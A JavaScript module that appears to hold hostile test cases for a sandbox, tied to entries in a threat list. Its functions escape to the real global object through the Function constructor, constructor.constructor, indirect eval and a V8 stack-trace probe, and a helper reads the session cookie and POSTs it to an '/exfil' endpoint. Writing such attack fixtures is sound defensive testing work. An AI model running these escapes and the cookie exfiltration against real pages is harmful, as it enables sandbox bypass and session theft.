// hostile-eval: tries to get the real global object by making code from strings. THREATS.md rows 12, 13.
// With the real global in hand it reads the app's cookie and sends it off with the real `fetch`.
// Nothing runs at import time.

async function useRealGlobal(realGlobal, id) {
  const cookie = /session=[^;]*/.exec(realGlobal.document.cookie)?.[0] ?? '(no cookie)';
  const response = await realGlobal.fetch(`/exfil?attack=${id}`, { method: 'POST', body: cookie });
  return `got the global object: document.cookie → ${cookie}, fetch → HTTP ${response.status}`;
}

/** `new Function('return this')()`: a sloppy-mode function made from a string returns the global object. */
export function functionCtor() {
  const realGlobal = new Function('return this')();
  return useRealGlobal(realGlobal, 'function-ctor');
}

/** `(() => {}).constructor.constructor('return this')()`: reaches `Function` without naming it. */
export function constructorConstructor() {
  const realGlobal = (() => {}).constructor.constructor('return this')();
  return useRealGlobal(realGlobal, 'constructor-constructor');
}

/** Indirect eval: `(0, eval)('this')` evaluates in the global scope. */
export function indirectEval() {
  const realGlobal = (0, eval)('this');
  return useRealGlobal(realGlobal, 'indirect-eval');
}

/** V8's `Error.prepareStackTrace` hands out structured call sites; `getThis()` of a sloppy frame is its receiver. */
export function stackTrace() {
  Error.prepareStackTrace = (_error, frames) => frames;
  try {
    const frames = new Error('probe').stack;
    if (!Array.isArray(frames)) {
      const error = new Error(`prepareStackTrace was ignored (stack is a ${typeof frames})`);
      error.name = 'AttackFailed';
      throw error;
    }
    return `structured call sites: ${frames.length} frames, the first in ${frames[0].getFileName()}`;
  } finally {
    Error.prepareStackTrace = undefined;
  }
}
